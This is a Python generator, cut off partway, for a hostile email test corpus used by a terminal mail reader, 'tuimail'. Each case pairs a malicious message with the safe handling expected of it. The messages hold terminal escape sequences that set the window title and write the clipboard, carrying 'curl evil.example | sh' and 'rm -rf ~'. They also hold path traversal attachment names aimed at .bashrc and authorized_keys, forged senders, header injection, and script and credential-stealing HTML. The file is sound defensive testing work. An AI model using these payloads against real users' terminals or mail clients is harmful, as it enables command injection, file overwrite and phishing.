"""The hostile message corpus: every case, what tuimail must do with it, and how it is made.

Run ``python tests/data/make_hostile.py`` to (re)write tests/data/hostile/*.eml and its README.md
table. The cases marked ``generated`` are too big to commit (a 50 MB part, 20,000 parts ...):
tests make them at test time with :func:`write_case` into a temporary directory.
"""

from __future__ import annotations

import base64
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "hostile"

# Byte strings that must never reach a terminal as they are: the tests look for each of them
# (and for any ESC, BEL or C1 byte at all in the CLI's output).
OSC_TITLE_BEL = b"\x1b]0;PWNED-TITLE\x07"
OSC_TITLE_ST = b"\x1b]2;PWNED-TITLE\x1b\\"
OSC_CLIPBOARD_BEL = b"\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh") + b"\x07"
OSC_CLIPBOARD_ST = b"\x1b]52;c;" + base64.b64encode(b"rm -rf ~") + b"\x1b\\"
CSI_CLEAR = b"\x1b[2J\x1b[H"
CSI_ALT_SCREEN = b"\x1b[?1049h"
PAYLOADS = (OSC_TITLE_BEL, OSC_TITLE_ST, OSC_CLIPBOARD_BEL, OSC_CLIPBOARD_ST, CSI_CLEAR)
"""Whole control sequences from the corpus, each looked for verbatim in captured output."""
MARKERS = (b"PWNED-TITLE", b"Y3VybCBldmlsLmV4YW1wbGUgfCBzaA", b"cm0gLXJmIH4")
"""The payload texts: after an ESC or C1 byte in captured output, they mean an injection."""

MARKUP = "[@click=app.quit]Click[/] [link=https://evil.example]link[/link] [b]bold[/b] [/x]"


@dataclass(frozen=True)
class Case:
    """One hostile message and what tuimail must do with it."""

    name: str
    """The file stem; the Message-ID is ``<name@hostile.test>`` unless the case spoils it."""
    covers: str
    """The bullet of issue 9 section 1 it stands for."""
    expect: str
    """What tuimail must do with it (one line: the README table and the issue note)."""
    build: Callable[[], bytes]
    shows: tuple[str, ...] = ()
    """Texts the reader must show literally (each within one line of ``tuimail read``)."""
    hides: tuple[str, ...] = ()
    """Texts that must not be in what the reader shows."""
    generated: bool = False
    """Too big to commit: made at test time."""
    too_complex: bool = False
    """The reader must say it is too complex and offer the raw source."""
    attachments: int = -1
    """How many attachments the reader must list (-1: not checked)."""
    file_names: tuple[str, ...] = field(default=())
    """The safe names the attachments must be saved under, in order (empty: not checked)."""


def message(
    name: str,
    body: bytes | str = b"Hello.\r\n",
    *,
    subject: bytes | str | None = None,
    sender: bytes | str = b"Mallory <mallory@hostile.test>",
    headers: tuple[tuple[str, bytes | str], ...] = (),
    content_type: bytes | str = b"text/plain; charset=utf-8",
    encoding: bytes | str = b"8bit",
    message_id: bytes | str | None = None,
) -> bytes:
    """A message with the usual headers (any of them replaceable), CRLF line ends."""

    def raw(value: bytes | str) -> bytes:
        return value if isinstance(value, bytes) else value.encode("utf-8")

    lines = [
        b"Message-ID: " + raw(f"<{name}@hostile.test>" if message_id is None else message_id),
        b"From: " + raw(sender),
        b"To: Robin <robin@example.test>",
        b"Subject: " + raw(name if subject is None else subject),
        b"Date: Mon, 02 Jan 2023 10:00:00 +0000",
        b"MIME-Version: 1.0",
    ]
    for header, value in headers:
        lines.append(header.encode() + b": " + raw(value))
    if content_type:
        lines.append(b"Content-Type: " + raw(content_type))
    if encoding:
        lines.append(b"Content-Transfer-Encoding: " + raw(encoding))
    text = raw(body)
    return b"\r\n".join(lines) + b"\r\n\r\n" + text.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def b64word(text: bytes | str, charset: str = "utf-8") -> str:
    """One RFC 2047 base64 encoded word."""
    data = text if isinstance(text, bytes) else text.encode(charset)
    return f"=?{charset}?b?{base64.b64encode(data).decode()}?="


def mixed(
    name: str,
    text: str,
    parts: list[bytes],
    *,
    boundary: str = "hostile-boundary",
    subject: str | None = None,
) -> bytes:
    """A multipart/mixed message: a text part and the given raw parts."""
    body = [f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n".encode()]
    for part in parts:
        body.append(f"--{boundary}\r\n".encode() + part + b"\r\n")
    body.append(f"--{boundary}--\r\n".encode())
    return message(
        name,
        b"".join(body),
        subject=subject,
        content_type=f'multipart/mixed; boundary="{boundary}"',
        encoding="",
    )


def attachment(disposition: bytes | str, data: bytes = b"payload\n", kind: str = "") -> bytes:
    """One attachment part with the given Content-Disposition value."""
    value = disposition if isinstance(disposition, bytes) else disposition.encode("utf-8")
    return (
        f"Content-Type: {kind or 'application/octet-stream'}\r\n".encode()
        + b"Content-Disposition: "
        + value
        + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(data).replace(b"\n", b"\r\n")
    )


def html(name: str, markup: str, **kwargs: str) -> bytes:
    """A text/html message."""
    return message(name, markup, content_type="text/html; charset=utf-8", **kwargs)  # type: ignore[arg-type]


# -- the cases ---------------------------------------------------------------------------------


def _markup_subject() -> bytes:
    return message("markup-subject", "Nothing to see.\n", subject=MARKUP)


def _markup_names() -> bytes:
    return message(
        "markup-names",
        sender='"[b]Boss[/b] [@click=app.quit]x[/]" <boss@hostile.test>',
        headers=(
            ("Cc", '"[/x] [link=https://evil.example]Kim[/link]" <kim@hostile.test>'),
            ("Reply-To", '"[reverse]R[/reverse]" <reply@hostile.test>'),
        ),
    )


def _markup_body() -> bytes:
    return message("markup-body", f"Look: {MARKUP}\n[/]\n[@click=app.bell]ring[/]\n")


def _markup_encoded() -> bytes:
    return message(
        "markup-encoded",
        subject=b64word("[@click=app.quit]encoded[/]"),
        sender=f"{b64word('[link=https://evil.example]Bank[/link]')} <bank@hostile.test>",
    )


def _markup_html() -> bytes:
    return html("markup-html", f"<p>{MARKUP}</p><p>[/]</p>")


def _markup_filename() -> bytes:
    return mixed(
        "markup-filename",
        "Two files.",
        [
            attachment('attachment; filename="[@click=app.quit]x[/].txt"'),
            attachment('attachment; filename="[/x][b].pdf"'),
        ],
    )


def _osc_raw_subject() -> bytes:
    return message(
        "osc-subject-raw",
        subject=b"Title " + OSC_TITLE_BEL + b" clip " + OSC_CLIPBOARD_ST + b" end",
    )


def _osc_encoded_headers() -> bytes:
    return message(
        "osc-subject-encoded",
        subject=b64word(OSC_CLIPBOARD_BEL + b"encoded"),
        sender=f"{b64word(OSC_TITLE_ST + b'Name')} <name@hostile.test>",
        headers=(
            ("Cc", f"{b64word(CSI_CLEAR + b'Cc')} <cc@hostile.test>"),
            ("X-Mailer", b"Mailer " + OSC_TITLE_BEL),
            ("List-Id", b"list " + CSI_CLEAR + b" <list.hostile.test>"),
        ),
    )


def _csi_body() -> bytes:
    return message(
        "csi-body",
        b"Before "
        + CSI_CLEAR
        + CSI_ALT_SCREEN
        + b"\x1b[31mred\x1b[0m \x1b[8mconcealed\x1b[0m \x1b[1;1H\x1b[6n\x1bc after\n",
    )


def _osc_body() -> bytes:
    return message(
        "osc-body",
        b"Title: "
        + OSC_TITLE_BEL
        + OSC_TITLE_ST
        + b"\nClipboard: "
        + OSC_CLIPBOARD_BEL
        + OSC_CLIPBOARD_ST
        + b"\nLink: \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\n",
    )


def _osc_body_qp() -> bytes:
    return message(
        "osc-body-qp",
        b"=1B]0;PWNED-TITLE=07 quoted-printable =1B[2J\n",
        encoding="quoted-printable",
    )


def _c1_body() -> bytes:
    # U+009D is OSC and U+009C is ST as single C1 characters; U+009B is CSI.
    text = "C1: \u009d0;PWNED-TITLE\u009c \u009b2J \u0090DCS\u009c \u0085NEL\n"
    return message("c1-body", text.encode("utf-8"))


def _c1_latin9() -> bytes:
    # In ISO-8859-15 the bytes 0x80-0x9f are the C1 controls themselves.
    return message(
        "c1-latin9",
        b"Latin-9 C1: \x9d0;PWNED-TITLE\x9c and \x9b2J\n",
        subject=b"=?iso-8859-15?q?=9D0;PWNED-TITLE=9C?=",
        content_type="text/plain; charset=iso-8859-15",
    )


def _html_entities() -> bytes:
    return html(
        "html-entity-escapes",
        "<p>Entities: &#27;]0;PWNED-TITLE&#7; &#x1b;]52;c;cm0gLXJmIH4&#x07; &#27;[2J "
        "&#155;2J &#x9d;0;PWNED-TITLE&#x9c; &#0; &#x202e;gnp.exe</p>"
        '<a href="https://x.example/&#27;]0;PWNED-TITLE&#7;">link</a>',
    )


def _escape_filename() -> bytes:
    return mixed(
        "escape-filename",
        "An attachment whose name writes to the terminal.",
        [
            attachment(b"attachment; filename*=utf-8''%1B%5D0%3BPWNED-TITLE%07evil.txt"),
            attachment(
                f'attachment; filename="{b64word(OSC_CLIPBOARD_BEL + b"clip.txt")}"'.encode()
            ),
            attachment(b'attachment; filename="raw\x1b[2Jname.txt"'),
        ],
    )


def _escape_mime_fields() -> bytes:
    return message(
        "escape-mime-fields",
        b"Body.\n",
        content_type=b'text/plain; charset="\x1b]0;PWNED-TITLE\x07"; format=\x1b[2J',
        headers=(("Content-Description", b"\x1b]52;c;cm0gLXJmIH4\x07"),),
    )


def _bidi_sender() -> bytes:
    return message(
        "bidi-sender",
        sender="\u202eladnaR\u202c \u2066moc.lapyap\u2069 <\u202epaypal@hostile.test>",
        subject="Invoice \u202efdp.exe\u202c and \u200f\u061c marks",
    )


def _bidi_filename() -> bytes:
    return mixed(
        "bidi-filename",
        "Your invoice.",
        [attachment('attachment; filename="' + b64word("invoice\u202efdp.exe") + '"')],
    )


def _lookalike_sender() -> bytes:
    # Cyrillic small a and o in the name and the address; a punycode domain.
    return message(
        "lookalike-sender",
        sender="PаyPаl Suppоrt <service@pаypal.com>",
        headers=(("Reply-To", "service@xn--pypal-4ve.com"),),
    )


def _forged_display_address() -> bytes:
    return message(
        "forged-display-address",
        sender='"support@bank.example" <evil@hostile.test>',
        subject="Your account is locked",
    )


def _forged_display_angle() -> bytes:
    return message(
        "forged-display-angle",
        sender=f"{b64word('CEO <ceo@company.example>')} <evil@hostile.test>",
        subject="Urgent wire transfer",
    )


def _several_from() -> bytes:
    return message(
        "several-from",
        sender="Alice <alice@example.org>, Mallory <mallory@hostile.test>",
        headers=(("From", "Second From <second@hostile.test>"), ("Sender", "x@hostile.test")),
    )


def _rfc2047_crlf() -> bytes:
    return message(
        "rfc2047-crlf",
        subject="=?utf-8?q?Hello=0D=0ABcc:_victim@hostile.test=0D=0A=0D=0Ainjected_body?=",
        sender="=?utf-8?q?Name=0D=0ATo=3A_x=40hostile=2Etest?= <crlf@hostile.test>",
        headers=(("Reply-To", "=?utf-8?q?R=0AX-Injected=3A_1?= <reply@hostile.test>"),),
    )


def _rfc2047_unknown_charset() -> bytes:
    return message(
        "rfc2047-unknown-charset",
        subject=(
            "=?x-klingon?q?Qapla=E9?= =?unicode-escape?q?=5Cx1b]0;PWNED-TITLE=5Cx07?= "
            "=?utf-7?b?KwAbAF0AMAA7-?= =?idna?q?xn--caf-dma?= =?rot13?q?uryyb?= "
            "=?utf-8*fr?q?avec_langue?= =??q?empty?= =?utf-8?x?bad-encoding?="
        ),
    )


def _rfc2047_broken_base64() -> bytes:
    return message(
        "rfc2047-broken-base64",
        subject="=?utf-8?b?!!!not*base64?= =?utf-8?b?SGVsbG8?= =?utf-8?b?A?= =?utf-8?b?====?=",
        sender="=?utf-8?b?G10wO1BXTkVELVRJVExFBw?= <b64@hostile.test>",  # ESC]0;... no padding
        body="SGVsbG8sIGJyb2tlbg!!!=\nGxdbMko\n=====\n",
        encoding="base64",
    )


def _rfc2047_broken_qp() -> bytes:
    return message(
        "rfc2047-broken-qp",
        subject="=?utf-8?q?=ZZ=4?= =?utf-8?q?soft=?= =?utf-8?q?=1B[2J?=",
        body="Broken =ZZ escapes =4 and a soft break =\nat the end =\n=1B]0;PWNED-TITLE=07\n=",
        encoding="quoted-printable",
    )


def _rfc2047_overlong() -> bytes:
    long_word = b64word("A" * 60_000 + "\x1b[2J")
    many = " ".join(b64word(f"w{index}") for index in range(5_000))
    return message(
        "rfc2047-overlong",
        subject=long_word,
        sender=f"{many} <many@hostile.test>",
    )


def _eight_bit_headers() -> bytes:
    return message(
        "eight-bit-headers",
        b"Body in an unknown charset: \x82\xa0\x82\xa2 \xff\xfe\n",
        subject=b"Shift-JIS \x93\xfa\x96\x7b\x8c\xea and KOI8 \xf0\xd2\xc9\xd7\xc5\xd4 \x9b2J",
        sender=b"\xc4\xe5\xe4 \x9d0;PWNED-TITLE\x9c <eight@hostile.test>",
        content_type="text/plain; charset=x-unknown-8bit",
    )


def _unknown_body_charsets() -> bytes:
    return mixed(
        "unknown-body-charsets",
        "Parts in charsets nobody knows.",
        [
            b'Content-Type: text/plain; charset="klingon"\r\n\r\nQapla\xe9 \x1b[2J',
            b"Content-Type: text/plain; charset=utf-16\r\n\r\n\xff\xfeH\x00i\x00\x1b",
            b"Content-Type: text/plain; charset=unicode-escape\r\n\r\n\\x1b]0;PWNED-TITLE\\x07",
            b"Content-Type: text/plain; charset=base64_codec\r\n\r\nG10wO1BXTkVELVRJVExFBw==",
        ],
    )


def _nul_bytes() -> bytes:
    return mixed(
        "nul-bytes",
        "NUL \x00 in the text\x00.",
        [attachment(b'attachment; filename="nul\x00name.txt"')],
        subject="NUL\x00 in the subject",
    ).replace(b"Mallory <", b"Mal\x00lory <")


def _attach_dotdot() -> bytes:
    return mixed(
        "attach-dotdot",
        "Dotfiles attached.",
        [
            attachment('attachment; filename="../../.bashrc"', b"alias ls='rm -rf ~'\n"),
            attachment("attachment; filename*=utf-8''..%2F..%2F.ssh%2Fauthorized_keys"),
            attachment(f'attachment; filename="{b64word("../../../../tmp/evil")}"'),
        ],
    )


def _attach_absolute() -> bytes:
    return mixed(
        "attach-absolute",
        "Absolute paths.",
        [
            attachment('attachment; filename="/etc/cron.d/evil"'),
            attachment("attachment; filename*=utf-8''C%3A%5CWindows%5CSystem32%5Cevil.dll"),
            attachment('attachment; filename="~/.profile"'),
            attachment("attachment; filename*=utf-8''%5C%5Cserver%5Cshare%5Cunc.txt"),
        ],
    )


def _attach_backslash() -> bytes:
    return mixed(
        "attach-backslash",
        "A batch file.",
        [
            attachment("attachment; filename=..\\..\\x.bat", b"del /q *\r\n"),
            attachment("attachment; filename*=utf-8''..%5C..%5Cy.bat"),
            attachment('attachment; filename="..\\\\..\\\\z.bat"'),
        ],
    )


def _attach_devices() -> bytes:
    return mixed(
        "attach-devices",
        "Windows device names.",
        [
            attachment(f'attachment; filename="{name}"')
            for name in ("CON", "NUL", "COM1", "lpt1.txt", "aux.c", "PRN.")
        ],
    )


def _attach_long() -> bytes:
    name = "A" * 996 + ".txt"
    pieces = [name[i : i + 60] for i in range(0, len(name), 60)]
    value = "attachment;" + "".join(
        f'\r\n filename*{index}="{piece}";' for index, piece in enumerate(pieces)
    )
    return mixed(
        "attach-long-name",
        "A name of 1,000 characters.",
        [attachment(value), attachment(f'attachment; filename="{"é" * 1000}.pdf"')],
    )


def _attach_colliding() -> bytes:
    return mixed(
        "attach-colliding",
        "Three files with one name.",
        [
            attachment('attachment; filename="report.pdf"', b"first\n"),
            attachment('attachment; filename="report.pdf"', b"second\n"),
            attachment('attachment; filename="../report.pdf"', b"third\n"),
            attachment('attachment; filename="Report.pdf"', b"fourth\n"),
        ],
    )


def _attach_dots() -> bytes:
    return mixed(
        "attach-dots",
        "Names that are only dots.",
        [
            attachment(f'attachment; filename="{name}"')
            for name in (".", "..", "...", "~", "-rf", ".bashrc", " ", "")
        ],
    )


def _html_script() -> bytes:
    return html(
        "html-script",
        "<html><head><script>alert('head')</script></head>"
        "<body onload=\"alert('onload')\"><p>Visible text.</p>"
        "<script type='text/javascript'>document.write('SCRIPT-TEXT')</script>"
        "<noscript>Enable scripts</noscript><iframe src='https://evil.example/'>IFRAME-TEXT</iframe>"
        "<svg><script>alert('svg')</script></svg></body></html>",
    )


def _html_form() -> bytes:
    return html(
        "html-form",
        "<p>Confirm your password:</p><form action='https://evil.example/steal' method=post>"
        "<input type=password name=pw value='hunter2'><select><option>OPTION-TEXT</option>"
        "</select><textarea>TEXTAREA-TEXT</textarea><button>Submit now</button></form>",
    )


def _html_tracking() -> bytes:
    return html(
        "html-tracking",
        "<p>Hello!</p><img src='https://track.example/open.gif?id=robin' width=1 height=1>"
        "<img src='https://track.example/px.gif' width='0' height='0' alt='pixel'>"
        "<img src='https://cdn.example/logo.png' alt='Logo'>"
        "<div style=\"background:url('https://track.example/bg.gif')\">Styled</div>"
        "<link rel=stylesheet href='https://track.example/s.css'>"
        "<style>@import url('https://track.example/i.css');</style>",
    )


def _html_links() -> bytes:
    return html(
        "html-unsafe-links",
        "<a href='javascript:alert(document.cookie)'>one</a> "
        "<a href=' JaVaScRiPt:alert(1)'>two</a> "
        "<a href='java\tscript:alert(1)'>three</a> "
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>four</a> "
        "<a href='vbscript:msgbox(1)'>five</a> <a href='file:///etc/passwd'>six</a> "
        "<a href='https://good.example/ok'>seven</a>",
    )


def _html_hidden() -> bytes:
    return html(
        "html-css-hidden",
        "<p>Shown text.</p><span style='display:none'>HIDDEN-DISPLAY-NONE</span>"
        "<div style='font-size:0'>HIDDEN-FONT-SIZE</div>"
        "<p style='color:#fff;background:#fff'>HIDDEN-WHITE</p><p hidden>HIDDEN-ATTRIBUTE</p>",
    )


def _html_meta() -> bytes:
    return html(
        "html-meta-refresh",
        "<html><head><meta http-equiv=refresh content='0;url=https://evil.example/'>"
        "<base href='https://evil.example/'></head><body><p>Relative "
        "<a href='/login'>link</a>.</p><object data='https://evil.example/x.swf'>OBJ</object>"
        "<embed src='https://evil.example/e'><video src='https://evil.example/v.mp4' "
        "poster='https://evil.example/p.jpg'></video></body></html>",
    )


def _html_deep() -> bytes:
    return html("html-deep", "<div><blockquote><ul><li>" * 3_000 + "Deep text" + "</li></ul>" * 10)


def _empty() -> bytes:
    return b""


def _garbage() -> bytes:
    return bytes(range(256)) * 4 + b"\r\n\r\n" + bytes(range(255, -1, -1)) * 4


def _headers_only() -> bytes:
    return b"Subject: [b]no body[/b]\x1b]0;PWNED-TITLE\x07\r\nFrom: x@hostile.test"


def _bad_dates_ids() -> bytes:
    references = " ".join(f"<r{index}@hostile.test>" for index in range(5_000))
    return message(
        "dates-and-ids",
        headers=(
            ("References", references + " <bad\x1b]0;PWNED-TITLE\x07@x>"),
            ("In-Reply-To", "<\r\n Bcc: victim@hostile.test>"),
        ),
        message_id="<dates-and-ids@hostile.test>\x1b[2J",
    ).replace(b"Mon, 02 Jan 2023 10:00:00 +0000", b"Fri, 31 Dec 99999 25:61:61 +9999")


def _multipart_tricks() -> bytes:
    body = (
        b"preamble\r\n--b\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/plain\r\n\r\nSame boundary inside.\r\n--b--\r\n"
        b"--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: \x1b]0;PWNED-TITLE\x07\r\n"
        b"Content-Type: multipart/mixed\r\n\r\nno boundary\r\n--b--\r\nepilogue"
    )
    return message("multipart-tricks", body, content_type="multipart/mixed; boundary=b")


# -- generated at test time: too big to commit -------------------------------------------------


def _bomb_nesting() -> bytes:
    depth = 2_000
    head = b"".join(
        f"Content-Type: multipart/mixed; boundary=b{index}\r\n\r\n--b{index}\r\n".encode()
        for index in range(depth)
    )
    tail = b"".join(f"\r\n--b{index}--".encode() for index in reversed(range(depth)))
    return message(
        "bomb-nesting",
        head + b"Content-Type: text/plain\r\n\r\nThe bottom." + tail,
        content_type="multipart/mixed; boundary=top",
        encoding="",
    ).replace(b"boundary=top\r\n\r\n", b"boundary=top\r\n\r\n--top\r\n", 1)


def _bomb_message_nesting() -> bytes:
    inner = b"Subject: bottom\r\n\r\nThe bottom.\r\n"
    for _ in range(2_000):
        inner = b"Content-Type: message/rfc822\r\n\r\n" + inner
    return message("bomb-message-nesting", inner, content_type="", encoding="").replace(
        b"MIME-Version: 1.0\r\n\r\n", b"MIME-Version: 1.0\r\n", 1
    )


def _bomb_parts() -> bytes:
    parts = [b"Content-Type: text/plain\r\n\r\npart %d" % index for index in range(20_000)]
    body = b"".join(b"--p\r\n" + part + b"\r\n" for part in parts) + b"--p--\r\n"
    return message("bomb-parts", body, content_type="multipart/mixed; boundary=p", encoding="")


def _bomb_big_part() -> bytes:
    text = (b"x" * 1000 + b"\x1b]0;PWNED-TITLE\x07\r\n") * (50 * 1024 * 1024 // 1018)
    return mixed(
        "bomb-big-part",
        "A 50 MB text part follows.",
        [b"Content-Type: text/plain\r\n\r\n" + text],
    )


def _bomb_big_attachment() -> bytes:
    data = base64.encodebytes(b"\x00\x1b]0;PWNED-TITLE\x07" * (50 * 1024 * 1024 // 17))
    part = attachment('attachment; filename="big.bin"', b"")
    return mixed(
        "bomb-big-attachment",
        "A 50 MB attachment.",
        [part + data.replace(b"\n", b"\r\n")],
    )


def _bomb_header_line() -> bytes:
    return message(
        "bomb-header-line",
        subject="S" * (1024 * 1024),
        headers=(("X-Long", "[b]" * (1024 * 1024 // 3)), ("Content-Description", "(" * 100_000)),
    )


def _bomb_rfc2231() -> bytes:
    pieces = "".join(f';\r\n filename*{index}*="%41"' for index in range(10_000))
    disposition = "attachment; filename*0*=utf-8''start" + pieces
    return mixed("bomb-rfc2231", "10,000 continuations.", [attachment(disposition)])


def _bomb_recipients() -> bytes:
    to = ",\r\n ".join(f'"R{index} [b]" <r{index}@hostile.test>' for index in range(100_000))
    return message("bomb-recipients", headers=(("Cc", to),))


def _bomb_headers() -> bytes:
    many = tuple((f"X-H{index}", "\x1b[2J") for index in range(100_000))
    return message("bomb-many-headers", headers=many)


CASES: tuple[Case, ...] = (
    Case(
        "markup-subject",
        "markup",
        "Subject with [@click=app.quit], [link=], [b], [/x] is shown as typed; clicking it "
        "does nothing.",
        _markup_subject,
        shows=(MARKUP,),
    ),
    Case(
        "markup-names",
        "markup",
        "Markup in From, Cc and Reply-To display names is shown as typed.",
        _markup_names,
        shows=("[b]Boss[/b] [@click=app.quit]x[/]", "[/x] [link=https://evil.example]Kim[/link]"),
    ),
    Case(
        "markup-body",
        "markup",
        "Markup in a plain-text body (an unmatched [/] included) is shown as typed.",
        _markup_body,
        shows=(MARKUP, "[@click=app.bell]ring[/]"),
    ),
    Case(
        "markup-encoded",
        "markup",
        "Markup hidden in RFC 2047 encoded subject and name is shown as typed.",
        _markup_encoded,
        shows=("[@click=app.quit]encoded[/]", "[link=https://evil.example]Bank[/link]"),
    ),
    Case(
        "markup-html",
        "markup",
        "Markup in an HTML body comes out of html2text as typed.",
        _markup_html,
        shows=("[@click=app.quit]Click[/]",),
    ),
    Case(
        "markup-filename",
        "markup",
        "Markup in attachment names: the / of [/] counts as a path separator, so they are "
        "saved as ].txt and x][b].pdf.",
        _markup_filename,
        shows=("x][b].pdf",),
        attachments=2,
        file_names=("].txt", "x][b].pdf"),
    ),
    Case(
        "osc-subject-raw",
        "escapes",
        "Raw OSC 0 (BEL) and OSC 52 (ST) in the Subject: ESC and BEL shown as ␛ and ␇.",
        _osc_raw_subject,
        shows=("Title ␛]0;PWNED-TITLE␇ clip ␛]52;c;cm0gLXJmIH4=␛\\ end",),
    ),
    Case(
        "osc-subject-encoded",
        "escapes",
        "OSC/CSI hidden in encoded words (Subject, From, Cc) and raw in X-Mailer and List-Id "
        "headers: shown as control pictures.",
        _osc_encoded_headers,
        shows=("␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇encoded", "␛]2;PWNED-TITLE␛"),
    ),
    Case(
        "csi-body",
        "escapes",
        "CSI in the body (clear screen, alternate screen, colours, conceal, cursor report, RIS): "
        "shown as ␛[...",
        _csi_body,
        shows=("Before ␛[2J␛[H␛[?1049h␛[31mred␛[0m",),
    ),
    Case(
        "osc-body",
        "escapes",
        "OSC 0/2/52 with BEL and ST terminators and an OSC 8 hyperlink in the body: shown inert.",
        _osc_body,
        shows=("Title: ␛]0;PWNED-TITLE␇␛]2;PWNED-TITLE␛\\", "␛]8;;https://evil.example␛\\click"),
    ),
    Case(
        "osc-body-qp",
        "escapes",
        "Escapes encoded as quoted-printable =1B in the body: decoded and shown as ␛.",
        _osc_body_qp,
        shows=("␛]0;PWNED-TITLE␇ quoted-printable ␛[2J",),
    ),
    Case(
        "c1-body",
        "escapes",
        "C1 controls (U+009B CSI, U+009D OSC, U+009C ST, DCS, NEL) in a UTF-8 body: replaced "
        "by U+FFFD.",
        _c1_body,
        shows=("C1: \ufffd0;PWNED-TITLE\ufffd \ufffd2J",),
    ),
    Case(
        "c1-latin9",
        "escapes",
        "Raw C1 bytes in an ISO-8859-15 body and an encoded subject: replaced by U+FFFD.",
        _c1_latin9,
        shows=("Latin-9 C1: \ufffd0;PWNED-TITLE\ufffd and \ufffd2J", "\ufffd0;PWNED-TITLE\ufffd"),
    ),
    Case(
        "html-entity-escapes",
        "escapes",
        "&#27; &#x1b; &#7; &#x9d; &#0; &#x202e; entities in HTML (html2text makes them real "
        "bytes): shown as control pictures; in a link URL they are percent-encoded.",
        _html_entities,
        shows=("Entities: ␛]0;PWNED-TITLE␇ ␛]52;c;cm0gLXJmIH4␇ ␛[2J",),
    ),
    Case(
        "escape-filename",
        "escapes",
        "Escapes in attachment names (RFC 2231, encoded word, raw): listed and saved with "
        "the controls replaced by _.",
        _escape_filename,
        attachments=3,
        file_names=(
            "_]0;PWNED-TITLE_evil.txt",
            "_]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==_clip.txt",
            "raw_[2Jname.txt",
        ),
    ),
    Case(
        "escape-mime-fields",
        "escapes",
        "Escapes in the charset and format parameters and Content-Description: the body is "
        "still read; nothing reaches the terminal.",
        _escape_mime_fields,
        shows=("Body.",),
    ),
    Case(
        "bidi-sender",
        "bidi",
        "RLO/PDF/isolates/RLM/ALM in the sender's name, address and the subject: each shown as "
        "U+FFFD, so the text reads in its real order.",
        _bidi_sender,
        shows=("Invoice \ufffdfdp.exe\ufffd and \ufffd\ufffd marks",),
    ),
    Case(
        "bidi-filename",
        "bidi",
        "invoice<RLO>fdp.exe: saved as invoice_fdp.exe (the override replaced).",
        _bidi_filename,
        attachments=1,
        file_names=("invoice_fdp.exe",),
    ),
    Case(
        "lookalike-sender",
        "bidi",
        "Cyrillic look-alikes in name and address, punycode Reply-To: shown exactly as given "
        "(the real characters); no warning (not detected); reply works.",
        _lookalike_sender,
        shows=("PаyPаl Suppоrt <service@pаypal.com>",),
    ),
    Case(
        "forged-display-address",
        "forged From",
        'From "support@bank.example" <evil@...>: the reader warns "Possibly forged sender".',
        _forged_display_address,
        shows=('"support@bank.example" <evil@hostile.test>',),
    ),
    Case(
        "forged-display-angle",
        "forged From",
        "An encoded display name holding <ceo@company.example>: the reader warns it may be "
        "forged and shows the real address.",
        _forged_display_angle,
        shows=("evil@hostile.test",),
    ),
    Case(
        "several-from",
        "forged From",
        "Two addresses in From and a second From header: every address is listed; the reply "
        "goes to them, not to a hidden one.",
        _several_from,
        shows=("alice@example.org", "mallory@hostile.test"),
    ),
    Case(
        "rfc2047-crlf",
        "RFC 2047",
        "Encoded CR/LF in Subject, From and Reply-To: shown on one line; the reply's headers "
        "hold no injected Bcc/To/X-Injected.",
        _rfc2047_crlf,
        shows=("Hello Bcc: victim@hostile.test injected body", "Name To: x@hostile.test"),
    ),
    Case(
        "rfc2047-unknown-charset",
        "RFC 2047",
        "Encoded words in x-klingon, unicode-escape, utf-7, idna, rot13 and bad encodings: "
        "decoded by guessing (never by a code-running codec); no escape comes out.",
        _rfc2047_unknown_charset,
        shows=("Qaplaé",),
    ),
    Case(
        "rfc2047-broken-base64",
        "RFC 2047",
        "Broken base64 in encoded words and the body (junk, no padding): decoded leniently, "
        "escapes inside shown as ␛.",
        _rfc2047_broken_base64,
        shows=("␛]0;PWNED-TITLE␇",),
    ),
    Case(
        "rfc2047-broken-qp",
        "RFC 2047",
        "Broken quoted-printable (=ZZ, =4, soft break at the end) in words and body: kept as "
        "text, escapes shown as ␛.",
        _rfc2047_broken_qp,
        shows=("Broken =ZZ escapes",),
    ),
    Case(
        "rfc2047-overlong",
        "RFC 2047",
        "A 60,000-character encoded word and 5,000 encoded words in a name: decoded in linear "
        "time, shown on one line.",
        _rfc2047_overlong,
        shows=("w0w1w2",),
    ),
    Case(
        "eight-bit-headers",
        "8-bit headers",
        "Raw Shift-JIS/KOI8/Latin-1 bytes and C1 bytes in headers, an unknown body charset: "
        "guessed as windows-1252, controls replaced.",
        _eight_bit_headers,
        shows=("Shift-JIS",),
    ),
    Case(
        "unknown-body-charsets",
        "8-bit headers",
        "Body parts in klingon, odd-length UTF-16, unicode-escape and base64_codec: guessed or "
        "decoded, never run through a code-running codec.",
        _unknown_body_charsets,
        shows=("Qaplaé ␛[2J", "\\x1b]0;PWNED-TITLE\\x07"),
    ),
    Case(
        "nul-bytes",
        "NUL",
        "NUL bytes in a header, the body and a file name: shown as ␀, saved as nul_name.txt.",
        _nul_bytes,
        shows=("NUL ␀ in the text␀.",),
        attachments=1,
        file_names=("nul_name.txt",),
    ),
    Case(
        "attach-dotdot",
        "attachment names",
        "../../.bashrc, ..%2F..%2F.ssh%2Fauthorized_keys, encoded ../../../../tmp/evil: saved "
        "as bashrc, authorized_keys, evil inside the chosen directory.",
        _attach_dotdot,
        attachments=3,
        file_names=("bashrc", "authorized_keys", "evil"),
    ),
    Case(
        "attach-absolute",
        "attachment names",
        "/etc/cron.d/evil, C:\\Windows\\...\\evil.dll, ~/.profile, \\\\server\\share\\unc.txt: "
        "saved under their last component, in the chosen directory.",
        _attach_absolute,
        attachments=4,
        file_names=("evil", "evil.dll", "profile", "unc.txt"),
    ),
    Case(
        "attach-backslash",
        "attachment names",
        "..\\..\\x.bat as a token, RFC 2231 and quoted: saved as x.bat, y.bat, z.bat in "
        "the chosen directory.",
        _attach_backslash,
